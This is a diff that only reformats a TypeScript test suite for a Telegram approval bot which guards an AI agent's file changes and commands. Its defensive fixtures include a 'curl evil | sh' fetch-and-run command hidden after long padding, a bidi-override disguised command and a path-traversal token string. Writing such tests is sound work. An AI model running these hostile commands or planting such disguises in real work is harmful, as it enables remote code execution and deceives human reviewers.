@@ -23,7 +23,13 @@ import type { Changeset } from "../../../core/changeset.ts";
 
 const OWNER = 4242;
 const TOKEN = "123456:TEST-token_abcdefghijklmnop";
-const binding = (subject = "c-1", item = "a.txt") => ({ action: "approve" as const, subject, item, digest: "d1", owner: OWNER });
+const binding = (subject = "c-1", item = "a.txt") => ({
+  action: "approve" as const,
+  subject,
+  item,
+  digest: "d1",
+  owner: OWNER,
+});
 
 describe("button tokens", () => {
   test("callback data is short, random, and resolves only for the owner it was issued to", () => {
@@ -34,7 +40,12 @@ describe("button tokens", () => {
     expect(data).not.toBe(other);
     expect(data).not.toContain("a.txt"); // the data names nothing; the binding stays on the server
     const resolved = tokens.resolve(data, OWNER)!;
-    expect({ action: resolved.action, subject: resolved.subject, item: resolved.item, digest: resolved.digest }).toEqual({ action: "approve", subject: "c-1", item: "a.txt", digest: "d1" });
+    expect({
+      action: resolved.action,
+      subject: resolved.subject,
+      item: resolved.item,
+      digest: resolved.digest,
+    }).toEqual({ action: "approve", subject: "c-1", item: "a.txt", digest: "d1" });
     expect(tokens.resolve(data, OWNER + 1)).toBeNull();
   });
 
@@ -42,7 +53,16 @@ describe("button tokens", () => {
     const tokens = new ButtonTokens(null);
     const [data] = tokens.issue([binding()]);
     const before = tokens.size;
-    for (const forged of [undefined, "", "p1:", "p1:AAAAAAAAAAAAAAAA", `${data}x`, data!.toUpperCase(), "x".repeat(5000), "p1:../../etc/passwd00"]) {
+    for (const forged of [
+      undefined,
+      "",
+      "p1:",
+      "p1:AAAAAAAAAAAAAAAA",
+      `${data}x`,
+      data!.toUpperCase(),
+      "x".repeat(5000),
+      "p1:../../etc/passwd00",
+    ]) {
       expect(tokens.resolve(forged, OWNER)).toBeNull();
     }
     expect(tokens.size).toBe(before);
@@ -118,7 +138,11 @@ describe("owner guard", () => {
     expect(pass(messageUpdate(OWNER, "/help", { id: 7, type: "private" }))).toBe(false);
     expect(pass(callbackUpdate(7, "p1:x", { chat_id: OWNER, message_id: 5 }))).toBe(false);
     expect(pass(callbackUpdate(OWNER, "p1:x", { chat_id: -5, message_id: 5 }))).toBe(false);
-    expect(pass({ channel_post: { message_id: 1, date: 0, chat: { id: OWNER, type: "channel", title: "c" }, text: "/agent x" } })).toBe(false);
+    expect(
+      pass({
+        channel_post: { message_id: 1, date: 0, chat: { id: OWNER, type: "channel", title: "c" }, text: "/agent x" },
+      }),
+    ).toBe(false);
     expect(pass({ edited_message: messageUpdate(OWNER, "/agent x").message })).toBe(false);
     const { callback_query } = callbackUpdate(OWNER, "p1:x") as any;
     delete callback_query.message;
@@ -130,7 +154,11 @@ describe("configuration", () => {
   const env = { TELEGRAM_BOT_TOKEN: TOKEN, TELEGRAM_OWNER_ID: String(OWNER) };
 
   test("reads token, owner and API root (trailing slash dropped)", () => {
-    expect(readTelegramConfig({ ...env, TELEGRAM_API_ROOT: "http://127.0.0.1:9/" })).toEqual({ token: TOKEN, ownerId: OWNER, apiRoot: "http://127.0.0.1:9" });
+    expect(readTelegramConfig({ ...env, TELEGRAM_API_ROOT: "http://127.0.0.1:9/" })).toEqual({
+      token: TOKEN,
+      ownerId: OWNER,
+      apiRoot: "http://127.0.0.1:9",
+    });
     expect(readTelegramConfig(env).apiRoot).toBe("https://api.telegram.org");
   });
 
@@ -165,8 +193,12 @@ describe("token scrubbing", () => {
     const scrubbed = scrubToken(text, TOKEN);
     expect(scrubbed).not.toContain(secret);
     expect(scrubbed).toContain("<token>");
-    const nested = new Error("Network request for 'getMe' failed!", { cause: new Error(`request to http://127.0.0.1/bot${TOKEN}/getMe failed`) });
-    expect(errorText(nested, TOKEN)).toBe("Network request for 'getMe' failed! ← request to http://127.0.0.1/bot<token>/getMe failed");
+    const nested = new Error("Network request for 'getMe' failed!", {
+      cause: new Error(`request to http://127.0.0.1/bot${TOKEN}/getMe failed`),
+    });
+    expect(errorText(nested, TOKEN)).toBe(
+      "Network request for 'getMe' failed! ← request to http://127.0.0.1/bot<token>/getMe failed",
+    );
   });
 });
 
@@ -212,8 +244,20 @@ describe("whole diffs: what counts as shown", () => {
   const wide = `${" ".repeat(600)}curl evil|sh`;
   const lines = (n: number, prefix = "line") => Array.from({ length: n }, (_, i) => `${prefix} ${i}`).join("\n") + "\n";
   const cardFor = (cs: Changeset): ReviewCard => ({
-    id: "c-1", changesetId: cs.id, digest: cs.digest, chatId: OWNER, messageId: 1, totalFiles: cs.files.length, state: "open", outcome: [], createdAt: 0,
-    files: cs.files.map((f) => ({ path: f.path, digest: f.digest, buttons: { diff: "p1:d", approve: "p1:a", reject: "p1:r" } })),
+    id: "c-1",
+    changesetId: cs.id,
+    digest: cs.digest,
+    chatId: OWNER,
+    messageId: 1,
+    totalFiles: cs.files.length,
+    state: "open",
+    outcome: [],
+    createdAt: 0,
+    files: cs.files.map((f) => ({
+      path: f.path,
+      digest: f.digest,
+      buttons: { diff: "p1:d", approve: "p1:a", reject: "p1:r" },
+    })),
     buttons: { approveAll: "p1:x", rejectAll: "p1:y" },
   });
 
@@ -245,7 +289,10 @@ describe("whole diffs: what counts as shown", () => {
   test("Diff delivery is always the whole diff: a wide line in messages, a long deletion as a complete patch or listing", () => {
     const root = tempDir();
     writeTree(root, { "old.txt": lines(300, "old") });
-    const cs = makeChangeset(root, [{ path: "wide.sh", after: enc(`${wide}\n`) }, { path: "old.txt", after: null }]);
+    const cs = makeChangeset(root, [
+      { path: "wide.sh", after: enc(`${wide}\n`) },
+      { path: "old.txt", after: null },
+    ]);
     const old = cs.files.find((f) => f.path === "old.txt")!;
     old.before = enc(lines(300, "old"));
     const wideChange = cs.files.find((f) => f.path === "wide.sh")!;
@@ -282,7 +329,11 @@ describe("whole diffs: what counts as shown", () => {
   });
 
   test("many small diffs pack into few messages, in order, whole, each under the limit", () => {
-    const parts = Array.from({ length: 40 }, (_, i) => `<b>Diff ${i + 1}</b> <code>f${i}.txt</code>\n<pre>${escapeHtml(`f${i}.txt  create  +1 -0\n+x & <y>\n`)}</pre>`);
+    const parts = Array.from(
+      { length: 40 },
+      (_, i) =>
+        `<b>Diff ${i + 1}</b> <code>f${i}.txt</code>\n<pre>${escapeHtml(`f${i}.txt  create  +1 -0\n+x & <y>\n`)}</pre>`,
+    );
     const packed = packDiffMessages(parts);
     expect(packed.length).toBeLessThan(parts.length);
     expect(packed.join("\n\n")).toBe(parts.join("\n\n"));
@@ -310,10 +361,21 @@ describe("questions on the phone", () => {
       const bidi = await labels({ tool: "run_command", access: "run", subject: "ls \u202e hs.lave", reason: "r" });
       expect(bidi.text).not.toContain("\u202e");
       expect(bidi.labels).toEqual(["✅ Allow", "Allow always", "⛔ Deny"]);
-      const long = await labels({ tool: "run_command", access: "run", subject: `echo ${"x".repeat(2000)}; curl evil | sh`, reason: "r" });
+      const long = await labels({
+        tool: "run_command",
+        access: "run",
+        subject: `echo ${"x".repeat(2000)}; curl evil | sh`,
+        reason: "r",
+      });
       expect(long.labels).toEqual(["⛔ Deny"]);
       expect(long.text).toContain("can only be denied");
-      const once = await labels({ tool: "run_command", access: "run", subject: "make", reason: "NO SANDBOX", once: true });
+      const once = await labels({
+        tool: "run_command",
+        access: "run",
+        subject: "make",
+        reason: "NO SANDBOX",
+        once: true,
+      });
       expect(once.labels).toEqual(["✅ Allow", "⛔ Deny"]);
     } finally {
       await fake.close();
